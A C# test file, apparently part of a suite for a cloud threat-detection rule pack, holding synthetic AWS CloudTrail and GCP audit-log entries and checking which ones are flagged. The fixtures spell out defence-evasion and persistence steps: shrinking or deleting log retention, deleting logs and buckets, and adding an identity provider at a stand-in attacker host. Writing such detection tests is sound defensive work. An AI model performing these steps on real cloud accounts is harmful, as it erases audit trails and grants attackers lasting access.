    [InlineData("""{"IpProtocol":"tcp","FromPort":3389,"ToPort":3389,"CidrIpv4":"10.0.0.0/8"}""")]
    [InlineData("""{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"CidrIpv6":"2001:db8::/32"}""")]
    [InlineData("""{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"ReferencedGroupId":"sg-0fedcba9876543210"}""")]
    public async Task ASecurityGroupRuleChangedToAPrivateRangeOrAGroup_IsNotReported(string rule)
    {
        var json = CloudTrail("ec2.amazonaws.com", "ModifySecurityGroupRules", Modify(rule), ModifyResponse);
        var hits = await Hunt(json, "ec2.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.t1562.007")), Describe(hits));
    }

    [Fact]
    public async Task AnOutboundRuleToEveryAddress_IsNotReported()
    {
        // Every new security group has this rule, and Terraform adds it again (as the invictus data set records it).
        var json = CloudTrail("ec2.amazonaws.com", "AuthorizeSecurityGroupEgress", Ingress(Permission("-1", null, null, ipv4: "0.0.0.0/0", ipv6: "::/0")));
        var hits = await Hunt(json, "ec2.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.t1562.007")), Describe(hits));
    }

    [Fact]
    public async Task TheStratusSecurityGroupDetonation_InTheInvictusDataSet_IsHighForSshAndMediumForTls()
    {
        // Stratus Red Team's ec2-security-group-open-port-22-ingress: a group created with 443 open to the internet (its
        // Terraform set-up), then 22 opened to the internet (the detonation); the set-up also adds the usual outbound rule.
        var folder = TestData.SharedData("cloudtrail/invictus-aws-dataset");
        var hits = new List<HuntHit>();
        foreach (var file in new[] { "218007301253_CloudTrail_us-east-1_20230710T1215Z_YMDRJwtmC82bUwAo.json", "218007301253_CloudTrail_us-east-1_20230710T1215Z_P0WZuP2zvLW2RcUo.json" })
        {
            hits.AddRange(await PackHunt.RunAsync(await File.ReadAllTextAsync(Path.Combine(folder, file), TestContext.Current.CancellationToken), file));
        }

        var opened = hits.Where(h => h.Tags.Contains("attack.t1562.007")).Select(h => h.Level).Order(StringComparer.Ordinal).ToList();
        Assert.True(opened is ["high", "medium"], Describe(hits));
    }

    [Theory]
    // Retention cut to a week: older events age out of the store.
    [InlineData("""{"eventDataStore":"arn:aws:cloudtrail:us-east-1:111122223333:eventdatastore/EXAMPLE-f852-4e8f-8bd1-bcf6cEXAMPLE","retentionPeriod":7}""")]
    // Selectors replaced by read-only management events: every write call stops being kept.
    [InlineData("""{"eventDataStore":"arn:aws:cloudtrail:us-east-1:111122223333:eventdatastore/EXAMPLE-f852-4e8f-8bd1-bcf6cEXAMPLE","advancedEventSelectors":[{"name":"Management events","fieldSelectors":[{"field":"eventCategory","equals":["Management"]},{"field":"readOnly","equals":["true"]}]}]}""")]
    // One region only.
    [InlineData("""{"eventDataStore":"arn:aws:cloudtrail:us-east-1:111122223333:eventdatastore/EXAMPLE-f852-4e8f-8bd1-bcf6cEXAMPLE","multiRegionEnabled":false}""")]
    public async Task ACloudTrailLakeEventDataStoreNarrowed_IsCaught(string request)
    {
        var json = CloudTrail("cloudtrail.amazonaws.com", "UpdateEventDataStore", request);
        var hits = await Hunt(json, "cloudtrail-lake.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1562.008")), Describe(hits));
    }

    [Fact]
    public async Task ACloudTrailLakeEventDataStoreRenamed_IsNotReported()
    {
        var json = CloudTrail("cloudtrail.amazonaws.com", "UpdateEventDataStore",
            """{"eventDataStore":"arn:aws:cloudtrail:us-east-1:111122223333:eventdatastore/EXAMPLE-f852-4e8f-8bd1-bcf6cEXAMPLE","name":"org-events-2026","retentionPeriod":2557}""");
        var hits = await Hunt(json, "cloudtrail-lake.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.defense-evasion")), Describe(hits));
    }

    // ------------------------------------------------------------------------------------------------------------------
    // GCP Cloud Audit Logs (Admin Activity), one LogEntry per call.
    // ------------------------------------------------------------------------------------------------------------------

    private static string AuditEntry(string service, string method, string resourceName, string permission, string request, string response = "null") => $$$$"""
        [{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","status":{},
          "authenticationInfo":{"principalEmail":"mallory@example.com"},
          "requestMetadata":{"callerIp":"203.0.113.7","callerSuppliedUserAgent":"google-cloud-sdk gcloud/460.0.0 command/gcloud","requestAttributes":{"time":"2026-01-15T10:00:00.100Z","auth":{}},"destinationAttributes":{}},
          "serviceName":"{{{{service}}}}","methodName":"{{{{method}}}}",
          "authorizationInfo":[{"resource":"{{{{resourceName}}}}","permission":"{{{{permission}}}}","granted":true,"resourceAttributes":{}}],
          "resourceName":"{{{{resourceName}}}}","request":{{{{request}}}},"response":{{{{response}}}}},
         "insertId":"1x2y3z4a5b6c","resource":{"type":"audited_resource","labels":{"project_id":"prod-123","service":"{{{{service}}}}","method":"{{{{method}}}}"}},
         "timestamp":"2026-01-15T10:00:00.123Z","severity":"NOTICE","logName":"projects/prod-123/logs/cloudaudit.googleapis.com%2Factivity",
         "receiveTimestamp":"2026-01-15T10:00:01.000Z"}]
        """;

    [Fact]
    public async Task AGcpLogDeleted_IsCaughtAsIndicatorRemoval()
    {
        var json = AuditEntry("logging.googleapis.com", "google.logging.v2.LoggingServiceV2.DeleteLog", "projects/prod-123/logs/syslog", "logging.logs.delete",
            """{"@type":"type.googleapis.com/google.logging.v2.DeleteLogRequest","logName":"projects/prod-123/logs/syslog"}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1070")), Describe(hits));
    }

    [Fact]
    public async Task AGcpLogBucketsRetentionCutToADay_IsCaught()
    {
        var json = AuditEntry("logging.googleapis.com", "google.logging.v2.ConfigServiceV2.UpdateBucket", "projects/prod-123/locations/global/buckets/_Default", "logging.buckets.update",
            """{"@type":"type.googleapis.com/google.logging.v2.UpdateBucketRequest","name":"projects/prod-123/locations/global/buckets/_Default","bucket":{"retentionDays":1},"updateMask":"retentionDays"}""",
            """{"@type":"type.googleapis.com/google.logging.v2.LogBucket","name":"projects/prod-123/locations/global/buckets/_Default","retentionDays":1,"lifecycleState":"ACTIVE","updateTime":"2026-01-15T10:00:00.120Z"}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.defense-evasion")), Describe(hits));
    }

    [Fact]
    public async Task AGcpLogBucketsRetentionLengthened_IsNotReported()
    {
        var json = AuditEntry("logging.googleapis.com", "google.logging.v2.ConfigServiceV2.UpdateBucket", "projects/prod-123/locations/global/buckets/_Default", "logging.buckets.update",
            """{"@type":"type.googleapis.com/google.logging.v2.UpdateBucketRequest","name":"projects/prod-123/locations/global/buckets/_Default","bucket":{"retentionDays":400},"updateMask":"retentionDays"}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.False(hits.Any(h => h.Tags.Contains("attack.defense-evasion")), Describe(hits));
    }

    [Fact]
    public async Task AGcpLogBucketDeleted_IsCaught()
    {
        var json = AuditEntry("logging.googleapis.com", "google.logging.v2.ConfigServiceV2.DeleteBucket", "projects/prod-123/locations/global/buckets/audit-archive", "logging.buckets.delete",
            """{"@type":"type.googleapis.com/google.logging.v2.DeleteBucketRequest","name":"projects/prod-123/locations/global/buckets/audit-archive"}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.defense-evasion")), Describe(hits));
    }

    [Fact]
    public async Task AWorkloadIdentityPoolProviderCreated_IsCaughtAsAFederationChange()
    {
        // A provider trusting an OIDC issuer the attacker runs: its tokens can then impersonate the project's service accounts.
        var json = AuditEntry("iam.googleapis.com", "google.iam.v1.WorkloadIdentityPools.CreateWorkloadIdentityPoolProvider",
            "projects/123456789012/locations/global/workloadIdentityPools/ci-pool/providers/ext-oidc", "iam.workloadIdentityPoolProviders.create",
            """{"@type":"type.googleapis.com/google.iam.v1.CreateWorkloadIdentityPoolProviderRequest","parent":"projects/123456789012/locations/global/workloadIdentityPools/ci-pool","workloadIdentityPoolProviderId":"ext-oidc","workloadIdentityPoolProvider":{"attributeMapping":{"google.subject":"assertion.sub"},"oidc":{"issuerUri":"https://idp.attacker.example"}}}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1484.002")), Describe(hits));
    }

    [Fact]
    public async Task AnHmacKeyCreatedForAServiceAccount_IsCaughtByThePermissionItNeeded()
    {
        // An S3-style access id and secret for a privileged service account. The method name is a stand-in: Google
        // documents the permission the call needs (which the entry's authorizationInfo records), not the method name.
        var json = AuditEntry("storage.googleapis.com", "storage.hmacKeys.create", "projects/prod-123", "storage.hmacKeys.create",
            """{"serviceAccountEmail":"backup@prod-123.iam.gserviceaccount.com"}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Count(h => h.Title == "GCP Cloud Storage HMAC Key Created for a Service Account") == 1, Describe(hits));
    }

    [Theory]
    // The same provider through the v1beta API, and a workforce pool provider: the users of an outside identity provider
    // signing in to Google Cloud as members of the organisation's workforce pool.
    [InlineData("google.iam.v1beta.WorkloadIdentityPools.CreateWorkloadIdentityPoolProvider",
        "projects/123456789012/locations/global/workloadIdentityPools/ci-pool/providers/ext-oidc", "iam.workloadIdentityPoolProviders.create")]
    [InlineData("google.iam.admin.v1.WorkforcePools.CreateWorkforcePoolProvider",
        "locations/global/workforcePools/staff-pool/providers/ext-oidc", "iam.workforcePoolProviders.create")]
    [InlineData("google.iam.admin.v1.WorkforcePools.UpdateWorkforcePoolProvider",
        "locations/global/workforcePools/staff-pool/providers/ext-oidc", "iam.workforcePoolProviders.update")]
    public async Task AnIdentityPoolProviderCreatedThroughAnyApi_IsCaughtAsAFederationChange(string method, string provider, string permission)
    {
        var json = AuditEntry("iam.googleapis.com", method, provider, permission, """{"oidc":{"issuerUri":"https://idp.attacker.example"}}""");
        var hits = await Hunt(json, "gcp-audit.json");
        Assert.True(hits.Any(h => h.Tags.Contains("attack.t1484.002")), Describe(hits));
    }
}
